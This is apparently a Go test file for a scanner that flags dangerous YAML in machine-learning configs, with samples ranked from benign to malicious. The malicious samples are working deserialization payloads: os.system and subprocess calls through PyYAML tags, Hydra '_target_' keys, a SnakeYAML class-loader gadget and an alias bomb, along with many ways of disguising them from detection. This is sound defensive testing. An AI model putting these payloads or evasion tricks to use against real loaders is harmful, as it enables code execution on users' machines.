package yaml

import (
	"bytes"
	"fmt"
	"strings"
	"testing"
	"unicode/utf16"

	"modelwall/scan"
	"modelwall/scan/scantest"
)

func wide(s string) []byte {
	b := []byte("\xff\xfe")
	for _, u := range utf16.Encode([]rune(s)) {
		b = append(b, byte(u), byte(u>>8))
	}
	return b
}

func TestScanner(t *testing.T) {
	var samples []scantest.Sample
	add := func(worst scan.Severity, class error, texts map[string]string) {
		for name, text := range texts {
			samples = append(samples, scantest.Sample{Name: name, Data: []byte(text), Worst: worst, Err: class})
		}
	}
	add(scan.Info, nil, map[string]string{
		"stable baselines": "!!python/object/apply:collections.OrderedDict\n- - - batch_size\n    - 128\n  - - env_wrapper\n    - list\n",
		"buffer":           "a: !!python/object/new:_io.BytesIO\n  state: !!python/tuple [!!binary '', 0, null]\nb: !!python/object/apply:io.StringIO []\n",
		"tuple":            "shape: !!python/tuple [1, 2]\nx: !!python/unicode 'a'\n",
		"path":             "dir: !!python/object/apply:pathlib.PosixPath\n- /\n- home\n",
		"namespace":        "!!python/object:argparse.Namespace\nlr: 0.1\n",
		"enum":             "s: !!python/object/apply:transformers.trainer_utils.IntervalStrategy\n- steps\n",
		"numpy scalar":     "x: !!python/object/apply:numpy.core.multiarray.scalar\n- !!python/object/apply:numpy.dtype\n  args: [f8, 0, 1]\n  state: !!python/tuple [3, <, null]\n- !!binary |\n  AAAAAAAA8D8=\n",
		"mkdocs":           "emoji_index: !!python/name:material.extensions.emoji.twemoji\nformat: !!python/name:pymdownx.superfences.fence_code_format\n",
		"nemo":             "target: nemo.collections.asr.models.EncDecCTCModelBPE\nencoder:\n  _target_: nemo.collections.asr.modules.ConformerEncoder\noptim:\n  name: adamw\n",
		"latent diffusion": "model:\n  target: ldm.models.diffusion.ddpm.LatentDiffusion\n  params:\n    unet_config:\n      target: torch.nn.Identity\n",
		"speechbrain":      "embedding: !new:speechbrain.lobes.models.ECAPA_TDNN.ECAPA_TDNN\n    input_size: 80\nopt: !name:torch.optim.Adam\n    lr: 0.1\nseed: !apply:torch.manual_seed [1234]\nn: !ref <embedding>\n",
		"lightning":        "model:\n  class_path: torch.nn.Linear\n  init_args: {in_features: 1}\n",
		"mlflow":           "flavors:\n  python_function:\n    env: conda.yaml\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n",
		"github":           "on: push\njobs:\n  a:\n    steps:\n    - run: echo ${{ secrets.TOKEN }} | sh\n      target: os.system\n",
		"compose":          "services:\n  web:\n    image: x\n    command: [sh, -c, 'exec python -m os.system']\n    volumes: ['/etc/passwd:/etc/passwd']\n",
		"cloudformation":   "a: !Sub '${x}'\nb: !GetAtt x.y\nc: !include_dir x\nd: !vault |\n  a\ne: !reference [a, b]\n",
		"comment":          "a: 1 # !!python/object/apply:os.system [id]\n",
		"quoted":           "a: '!!python/object/apply:os.system [id]'\nb: \"!!python/object/apply:os.system\"\nc: d !!python/object/apply:os.system\n",
		"block":            "a: |\n  b: !!python/object/apply:os.system [id]\n  _target_: os.system\n",
		"merge":            "base: &b\n  lr: 1\nx:\n  <<: *b\ny: *b\n",
	})
	add(scan.Info, scan.ErrForeign, map[string]string{
		"prose":       "Some text with no colon,\nmore text and: another\n",
		"readme":      "---\nlicense: mit\ntags:\n- a\n---\n\n# Title\n\nLoad it with `x`:\n\n```python\nimport os\n```\n- text **bold**: x\n`code`\n",
		"json":        `{"_target_": "os.system"}`,
		"vocabulary":  "the\nof\nand\n!!python\n",
		"python":      "import os\n\ndef f(x):\n    return {'_target_': 'os.system'}\n",
		"other tab":   "a,b,c\n1,2,3\n",
		"unbalanced":  "[[[[ ascii art\n",
		"cut in text": "a: [1, 2\nb: 3\n",
	})
	add(scan.Low, nil, map[string]string{
		"custom class":  "m: !!python/object:my.pkg.Config\n  a: 1\n",
		"custom target": "m:\n  _target_: src.models.mnist_module.MNISTLitModule\n",
		"custom new":    "m: !new:my_model.Net\n",
		"custom code":   "flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    code: code\n",
		"computed":      "m:\n  _target_: nemo.${name}.Model\n",
		"pip":           "dependencies:\n- python=3.10\n- pip:\n  - git+https://example.invalid/x.git\n",
		"trusts":        "model:\n  trust_remote_code: true\n",
		"java":          "a: !!com.example.Config {x: 1}\n",
	})
	add(scan.Low, scan.ErrForeign, map[string]string{
		"documentation": "# Danger\n\n- never do this\n- x: !!python/object/apply:os.system ['id']\n\n`yaml.load` runs it\n",
	})
	add(scan.SeveritySuspicious, scan.ErrForeign, map[string]string{
		"damaged after": "a: !!python/object/apply:os.system [id]\nb: [1, 2\n",
	})
	add(scan.SeveritySuspicious, nil, map[string]string{
		"loader":         "flavors:\n  python_function:\n    loader_module: evil_loader\n    code: code\n",
		"unknown called": "a: !!python/object/apply:my.pkg.run [1]\n",
		"named eval":     "model:\n  _target_: custom_module.eval_function\n",
		"ruby":           "--- !ruby/object:Foo\na: 1\n",
		"hf_data_cfg":    "train_ds:\n  hf_data_cfg:\n    path: x/y\n    trust_remote_code: true\n",
		"secret":         "vocab_file: ../../../etc/passwd\n",
		"encoded":        "x: IyBfX2ltcG9ydF9fKCdvcycpLnN5c3RlbSgnaWQnKQ==\n",
		"js":             "f: !!js/function 'function () {}'\n",
	})
	add(scan.SeverityMalicious, nil, map[string]string{
		"apply":           "!!python/object/apply:os.system [id]\n",
		"apply in value":  "a:\n  b:\n  - c: !!python/object/apply:subprocess.check_output [[id]]\n",
		"apply in flow":   "{a: [1, !!python/object/apply:os.system [id]]}\n",
		"new":             "!!python/object/new:os.system [id]\n",
		"opened":          "!!python/object/new:_io.FileIO [/etc/passwd]\n",
		"new type":        "!!python/object/new:type\nargs: ['z', !!python/tuple [], {'extend': !!python/name:exec }]\nlistitems: \"__import__('os').system('id')\"\n",
		"name":            "!!python/object/new:tuple [!!python/object/new:map [!!python/name:eval , ['1']]]\n",
		"verbatim":        "a: !<tag:yaml.org,2002:python/object/apply:os.system> [id]\n",
		"tag directive":   "%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system [id]\n",
		"tag primary":     "%TAG ! tag:yaml.org,2002:python/object/\n--- !apply:os.system [id]\n",
		"tag secondary":   "%TAG !! tag:yaml.org,2002:pyth\n--- !!on/object/apply:os.system [id]\n",
		"escaped":         "a: !!pyth%6fn/object%2fapply:os%2Esystem [id]\n",
		"key":             "? !!python/object/apply:os.system [id]\n: x\n",
		"plain key":       "!!python/object/apply:os.system id: x\n",
		"by way":          "a: !!python/object/apply:torch.os.system [id]\n",
		"anchored":        "a: &x !!python/object/apply:os.system [id]\n",
		"second document": "a: 1\n---\nb: !!python/object/apply:os.system [id]\n",
		"carriage return": "a: 1\rb: !!python/object/apply:os.system [id]\r",
		"line separator":  "# comment\u2028a: !!python/object/apply:os.system [id]\n",
		"no separator":    "# \u2028b: \"\na: !new:os.system [\"id\"]\n",
		"torn tag":        "{z: !x[ 1, a: !!python/object/apply:os.system [id]}\n",
		"after block":     "a: |\n  text\nb: !!python/object/apply:os.system [id]\n",
		"block indent":    "a: |1\n text\nb: !!python/object/apply:os.system [id]\n",
		"after quotes":    "a: \"it\\\"s\"\nb: 'it''s'\nc: !!python/object/apply:os.system [id]\n",
		"utf-16":          string(wide("a: !!python/object/apply:os.system [id]\n")),
		"mark":            "\xef\xbb\xbfa: !!python/object/apply:os.system [id]\n",
		"before damage":   "a: !!python/object/apply:os.system [id]\n---\nb: 1\n",

		"target":          "model:\n  _target_: os.system\n  _args_: ['echo pwned']\n",
		"target deep":     "a:\n- b:\n  - c:\n      _target_: os.popen\n",
		"target quoted":   "a: {\"_t\\x61rget_\": \"os\\x2esystem\"}\n",
		"target block":    "_target_: >-\n  os.system\n",
		"target question": "? _target_\n: os.system\n",
		"target tagged":   "!!str _target_ : !!str os.system\n",
		"target alias":    "x: &a os.system\n_target_: *a\n",
		"target computed": "x: os.system\n_target_: ${x}\n",
		"target json":     "{\"_target_\": \"os.system\", }  # not JSON\n",
		"get method":      "_target_: hydra.utils.get_method\npath: os.system\n",
		"class path":      "class_path: subprocess.Popen\ninit_args: {args: id}\n",
		"target params":   "model:\n  target: os.system\n  params: {command: id}\n",
		"nemo target":     "target: os.system\n",
		"speechbrain":     "x: !apply:os.system [id]\n",
		"speechbrain new": "x: !new:subprocess.Popen\n  args: id\n",
		"pickle":          "_target_: pickle.loads\ndata: '...'\n",
		"snakeyaml":       "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ['http://example.invalid/']]]]\n",
		"ruby gem":        "--- !ruby/object:Gem::Requirement\nrequirements: x\n",
		"kernel":          "_attn_implementation_internal: evil/kernel\n",
		"monai":           "imports: ['$import os']\nrun: \"$__import__('os').system('id')\"\n",
		"bomb":            bomb(12),
	})
	scantest.Run(t, New(), samples)
}

// bomb is aliases of aliases, ten of each.
func bomb(n int) string {
	var b strings.Builder
	b.WriteString("a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n")
	for i := 1; i < n; i++ {
		fmt.Fprintf(&b, "a%d: &a%d [%s*a%d]\n", i, i, strings.Repeat(fmt.Sprintf("*a%d, ", i-1), 9), i-1)
	}
	return b.String()
}

func TestMembers(t *testing.T) {
	for name, c := range map[string]struct{ text, want string }{
		"template":  {"chat_template:\n  \"{{ config.__class__ }}\n  }}\"\nmodel_name: x\n", "[{{ config.__class__ }} }}]"},
		"block":     {"chat_template: |\n  {% if a %}\n  x\n  {% endif %}\n", "[{% if a %}\nx\n{% endif %}\n]"},
		"other key": {"deploy_script: \"{{ __import__('os') }}\"\n", "[{{ __import__('os') }}]"},
		"workflow":  {"run: echo ${{ github.sha }}\n", "[]"},
		"name":      {"chat_template: chatml\n", "[]"},
		"damaged":   {"chat_template: '{{ a }}'\nb: [\n", "[]"},
		"binary":    {"x: !!binary |\n  gASVHAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOU\n  jAJpZJSFlFKULg==\n", "[\x80\x04\x95\x1c\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94.]"},
	} {
		r, _ := scantest.Scan(New(), "x", []byte(c.text))
		var got []string
		for _, m := range r.Members {
			got = append(got, string(m.Data))
		}
		if fmt.Sprint(got) != c.want {
			t.Errorf("%s: members %q, want %q", name, got, c.want)
		}
	}
}

// patterns are what costs a lexer most when repeated.
var patterns = map[string]string{
	"nested": "[", "maps": "{a: ", "sequence": "- ", "anchors": "&a ", "aliases": "- *a\n", "keys": "? ", "colons": ": ", "tags": "!a ", "quotes": "'' ",
	"breaks": "\n\n ", "blocks": "a: |\n  x\n", "documents": "---\n", "lines": "a\n", "pairs": "a: b\n", "flow": "[a: b],", "deep": "a:\n ", "plain": "a b ",
	"escapes": "\"\\x41\" ", "directives": "%TAG ! !\n", "targets": "_target_: os.system\n", "python": "- !!python/name:os.system a\n", "templates": "template: '{{ a }}'\n",
	"mixed": "- a: [b, {c: &d e}]\n",
}

// TestPatterns: a quarter of a megabyte of each ends, flat and ever deeper. Quadratic work
// would run into the time-out of the test binary.
func TestPatterns(t *testing.T) {
	s := New()
	for _, unit := range patterns {
		scantest.Scan(s, "x", []byte(strings.Repeat(unit, 1<<18/len(unit))))
		var indented bytes.Buffer
		for i := 0; indented.Len() < 1<<18; i++ {
			indented.WriteString(strings.Repeat(" ", i) + unit + "\n")
		}
		_, err := scantest.Scan(s, "x", indented.Bytes())
		scantest.Classified(t, err)
	}
}

func BenchmarkPatterns(b *testing.B) {
	s := New()
	for name, unit := range patterns {
		text := []byte(strings.Repeat(unit, 1<<20/len(unit)))
		b.Run(name, func(b *testing.B) {
			b.SetBytes(int64(len(text)))
			for b.Loop() {
				scantest.Scan(s, "x", text)
			}
		})
	}
}

func FuzzScan(f *testing.F) {
	for _, s := range []string{
		"a: !!python/object/apply:os.system [\"id\"]\n", "%TAG !p! tag:yaml.org,2002:python/\n---\n- !p!name:x ''\n", "? a\n: - b\n  - c: |2\n      d\n",
		"{a: [b, 'c', \"d\\x41\"], ? e : *f}\n---\n&g h: >-\n  i\n", "_target_: ${a}\n",
	} {
		f.Add([]byte(s))
	}
	s := New()
	f.Fuzz(func(t *testing.T, data []byte) { scantest.Fuzz(t, s, data) })
}
